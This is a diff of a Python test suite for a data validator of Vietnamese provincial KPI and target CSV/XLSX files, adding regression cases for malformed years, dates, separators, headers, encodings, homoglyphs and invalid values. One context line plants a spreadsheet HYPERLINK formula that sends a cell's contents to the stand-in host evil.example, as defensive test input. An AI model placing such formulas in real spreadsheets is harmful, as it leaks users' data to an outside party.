@@ -545,6 +545,108 @@ def good_negative_growth_and_formula_like_text(raw):
     _edit(raw, "kpi_actuals.csv", 20, source='=HYPERLINK("http://evil.example/?q="&A1,"Nguồn")')
 
 
+# Kinds the suite already refused before the review, kept as regressions (one row each in CORPUS).
+
+def bad_year_20255(raw):
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, year='20255')}:year"
+
+
+def bad_date_in_year_cell(raw):
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, year='01/01/2019')}:year"
+
+
+def bad_date_in_value_cell(raw):
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, value='2019-01-04')}:value"
+
+
+def bad_apostrophe_thousands(raw):
+    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
+    return f"macro.csv:{_edit(raw, 'macro.csv', index, value=chr(39).join(['67', '200']))}:value"
+
+
+def bad_indian_grouping(raw):
+    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
+    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='6,72,00,000')}:value"
+
+
+def bad_dash_marker_in_required_value(raw):
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, value='-')}:value"
+
+
+def bad_duplicated_header(raw):
+    lines = _lines(raw, "kpi_actuals.csv")
+    _set_lines(raw, "kpi_actuals.csv", [lines[0] + ",value"] + [line + ",1" for line in lines[1:] if line] + [""])
+    return "kpi_actuals.csv:1:value"
+
+
+def bad_misspelt_optional_column(raw):
+    lines = _lines(raw, "macro.csv")
+    lines[0] = lines[0].replace(",note", ",notes")
+    _set_lines(raw, "macro.csv", lines)
+    return "macro.csv:1:note"
+
+
+def bad_empty_file(raw):
+    (raw / "targets.csv").write_bytes(b"")
+    return "targets.csv:1:-"
+
+
+def bad_utf16(raw):
+    text = (raw / "kpi_actuals.csv").read_text(encoding="utf-8")
+    (raw / "kpi_actuals.csv").write_bytes(text.encode("utf-16"))
+    return "kpi_actuals.csv:1:-"
+
+
+def bad_repeated_header_inside(raw):
+    lines = _lines(raw, "kpi_actuals.csv")
+    lines.insert(51, lines[0])
+    _set_lines(raw, "kpi_actuals.csv", lines)
+    return "kpi_actuals.csv:52:-"
+
+
+def bad_zero_width_space_in_province(raw):
+    row = _edit(raw, "kpi_actuals.csv", 30, region="Bắc\u200bNinh")
+    return f"kpi_actuals.csv:{row}:region"
+
+
+def bad_homoglyph_in_indicator(raw):
+    index = _find(raw, "kpi_actuals.csv", indicator="pci_rank", region="Bắc Giang", year="2010")
+    row = _edit(raw, "kpi_actuals.csv", index, indicator="pci_r\u0430nk")  # Cyrillic 'а'
+    return f"kpi_actuals.csv:{row}:indicator"
+
+
+def bad_issued_month_13(raw):
+    return f"targets.csv:{_edit(raw, 'targets.csv', 3, issued='2026-13')}:issued"
+
+
+def bad_rank_zero(raw):
+    index = _find(raw, "kpi_actuals.csv", indicator="pci_rank", region="Bắc Giang", year="2010")
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', index, value='0')}:value"
+
+
+def bad_csv_and_xlsx_both(raw):
+    import shutil as _shutil
+
+    _kpi_to_xlsx(raw)
+    _shutil.copy(RAW / "kpi_actuals.csv", raw / "kpi_actuals.csv")
+    return "kpi_actuals.xlsx:0:-"
+
+
+def bad_csv_renamed_xlsx(raw):
+    (raw / "kpi_actuals.csv").rename(raw / "kpi_actuals.xlsx")
+    return "kpi_actuals.xlsx:1:-"
+
+
+def bad_between_high_below(raw):
+    index = _find(raw, "targets.csv", operator="between")
+    header, rows = read_rows(raw / "targets.csv")
+    high = str(float(rows[index]["value"]) - 1)
+    return f"targets.csv:{_edit(raw, 'targets.csv', index, value_high=high)}:value_high"
+
+
+def bad_unknown_kind(raw):
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', 30, kind='forecast')}:kind"
+
 # kind, plant, expected exit code, words every blamed line must contain (all lines for a plant naming two rows)
 CORPUS = [
     ("negative_count", bad_negative_count, 2, "below the plausible range"),
@@ -576,6 +678,25 @@ CORPUS = [
     ("xlsx_formula_without_result", bad_xlsx_formula_without_result, 2, "'=3+1' without a saved result"),
     ("xlsx_infinite_cell", bad_xlsx_infinite_cell, 2, "not a finite number"),
     ("inf_text", bad_inf_text, 2, "not a number: 'inf'"),
+    ("year_20255", bad_year_20255, 2, "above the allowed range"),
+    ("date_in_year_cell", bad_date_in_year_cell, 2, "not a number: '01/01/2019'"),
+    ("date_in_value_cell", bad_date_in_value_cell, 2, "not a number: '2019-01-04'"),
+    ("apostrophe_thousands", bad_apostrophe_thousands, 2, "not a number"),
+    ("indian_grouping", bad_indian_grouping, 2, "thousands separators in the wrong places"),
+    ("dash_marker_in_required_value", bad_dash_marker_in_required_value, 2, "not a number: '-'"),
+    ("duplicated_header", bad_duplicated_header, 2, "appears more than once"),
+    ("misspelt_optional_column", bad_misspelt_optional_column, 2, "missing column 'note'"),
+    ("empty_file", bad_empty_file, 2, "the file is empty"),
+    ("utf16", bad_utf16, 2, "UTF-16"),
+    ("repeated_header_inside", bad_repeated_header_inside, 2, "header row is repeated"),
+    ("zero_width_space_in_province", bad_zero_width_space_in_province, 2, "did you mean 'Bắc Ninh'"),
+    ("homoglyph_in_indicator", bad_homoglyph_in_indicator, 2, "lower_snake_case"),
+    ("issued_month_13", bad_issued_month_13, 2, "not a date: '2026-13'"),
+    ("rank_zero", bad_rank_zero, 2, "whole number ≥ 1"),
+    ("csv_and_xlsx_both", bad_csv_and_xlsx_both, 2, "keep only one"),
+    ("csv_renamed_xlsx", bad_csv_renamed_xlsx, 2, "cannot be opened"),
+    ("between_high_below", bad_between_high_below, 2, "is below value"),
+    ("unknown_kind", bad_unknown_kind, 2, "is not one of: actual, estimate, plan"),
     ("xlsx_instructions_sheet_first", good_xlsx_instructions_sheet_first, 0, None),
     ("note_of_200_kb", good_note_of_200_kb, 0, None),
     ("space_thousands_crlf_reordered", good_space_thousands_crlf_and_reordered_columns, 0, None),
